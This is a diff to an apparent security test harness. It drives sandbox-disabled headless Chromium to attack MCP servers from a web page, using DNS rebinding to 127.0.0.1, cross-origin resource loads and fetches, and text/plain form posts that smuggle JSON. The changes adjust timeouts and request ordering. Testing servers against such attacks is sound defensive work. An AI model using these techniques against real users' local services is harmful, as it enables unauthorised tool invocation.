@@ -8,7 +8,7 @@ const [executablePath, profile, order] = process.argv.slice(2);
 const { full, targets } = JSON.parse(order);
 
 const context = await chromium.launchPersistentContext(profile, {
-  executablePath, headless: true, chromiumSandbox: false,
+  executablePath, headless: true, chromiumSandbox: false, timeout: 120_000,
   args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update',
     '--disable-sync', '--disable-dev-shm-usage', '--disable-site-isolation-trials', '--renderer-process-limit=2',
     '--host-resolver-rules=MAP *.example 127.0.0.1', // names of an attacker, who points them where he likes
@@ -27,7 +27,9 @@ async function attack({ full, page, url, tool, args }) {
   const soon = (ms) => new Promise((yes) => setTimeout(yes, ms));
   const within = (ms) => AbortSignal.timeout(ms);
   const attempt = (of, ms = 15_000) => { tried++; doings.push(Promise.race([Promise.resolve().then(of), soon(ms)]).catch(() => {})); };
-  const load = (of) => attempt(of, 2000); // what only reads a stream need not end
+  // What only reads comes last, since it may hold a connection without end, and a browser has few for one host.
+  const later = [];
+  const load = (of) => later.push(of);
 
   const meta = {
     'io.modelcontextprotocol/protocolVersion': '2026-07-28', 'io.modelcontextprotocol/clientInfo': { name: 'page', version: '1' },
@@ -97,8 +99,8 @@ async function attack({ full, page, url, tool, args }) {
         load(() => new Promise((done) => { const e = document.createElement(tag); e.onload = e.onerror = done; e.src = `${base}${path}`; document.body.append(e); }));
       }
       load(() => new Promise((done) => { const e = document.createElement('link'); e.rel = 'stylesheet'; e.onload = e.onerror = done; e.href = `${base}${path}`; document.head.append(e); }));
-      attempt(() => fetch(`${base}${path}`, { signal: within(1500) }).then((r) => r.text()));
-      attempt(() => fetch(`${base}${path}`, { mode: 'no-cors', signal: within(1500) }));
+      load(() => fetch(`${base}${path}`, { signal: within(1500) }).then((r) => r.text()));
+      load(() => fetch(`${base}${path}`, { mode: 'no-cors', signal: within(1500) }));
     }
     // Forms ask nobody: as text/plain, name=value may well be JSON.
     const form = (action, message, enctype) => new Promise((done) => {
@@ -121,6 +123,8 @@ async function attack({ full, page, url, tool, args }) {
     }
   }
   await Promise.all(doings);
+  for (const of of later) attempt(of, 2000);
+  await Promise.all(doings);
   return tried;
 }
 
@@ -131,7 +135,7 @@ for (const { pages, ...target } of targets) {
     const page = await context.newPage();
     // The page of a name that was pointed at the server after it was loaded: it comes from the attacker, what it asks for does not.
     await page.route((u) => u.pathname === '/rebound', (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>page</title><body>' }));
-    await page.goto(from);
+    await page.goto(from, { timeout: 120_000 });
     counts[name] = await page.evaluate(attack, { full, page: name, ...target });
     await page.close();
   }));
